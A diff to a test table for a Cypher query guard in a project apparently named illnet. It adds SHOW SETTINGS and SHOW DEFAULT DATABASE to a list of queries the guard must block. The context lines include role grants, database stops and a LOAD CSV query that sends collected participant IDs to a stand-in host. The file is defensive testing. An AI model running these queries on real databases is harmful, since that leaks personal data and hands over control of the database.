@@ -18,6 +18,8 @@ from illnet.query import canned, guard
     ("CREATE OR REPLACE DATABASE copy", "CREATE OR REPLACE DATABASE"),
     ("GRANT ROLE admin TO bob", "GRANT R"),
     ("STOP DATABASE neo4j", "STOP DATABASE"),
+    ("SHOW SETTINGS YIELD name, value", "SHOW SETTINGS"),
+    ("SHOW DEFAULT DATABASE", "SHOW DEFAULT DATABASE"),
     ("LOAD CSV FROM 'http://127.0.0.1:9/x' AS row RETURN row", "LOAD CSV"),
     ("MATCH (p:Participant) WITH collect(p.participantId) AS ids\n"
      "load   csv from 'http://x/?q=' + apoc.text.join(ids, ',') AS row RETURN row", "LOAD CSV"),
